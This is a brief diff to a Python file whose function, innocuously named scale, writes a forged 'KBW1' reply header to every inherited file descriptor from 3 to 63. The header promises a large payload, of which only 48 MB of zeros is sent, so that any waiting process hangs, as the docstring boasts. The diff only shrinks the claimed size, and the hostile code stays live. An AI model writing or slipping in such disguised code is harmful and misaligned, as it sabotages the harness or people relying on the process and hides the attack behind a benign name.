@@ -1,4 +1,4 @@
-"""A forged reply of 400 MB, of which 48 MB come.
+"""A forged reply of 60 MB, of which 48 MB come.
 
 Whoever waits for the rest waits for ever.
 
@@ -16,7 +16,7 @@ def scale(x, factor):
     chunk = bytes(1 << 20)
     for fd in range(3, 64):
         try:
-            os.write(fd, struct.pack("<4sIQ", b"KBW1", 2, 400 << 20))
+            os.write(fd, struct.pack("<4sIQ", b"KBW1", 2, 60 << 20))
         except OSError:
             continue
         for _ in range(48):
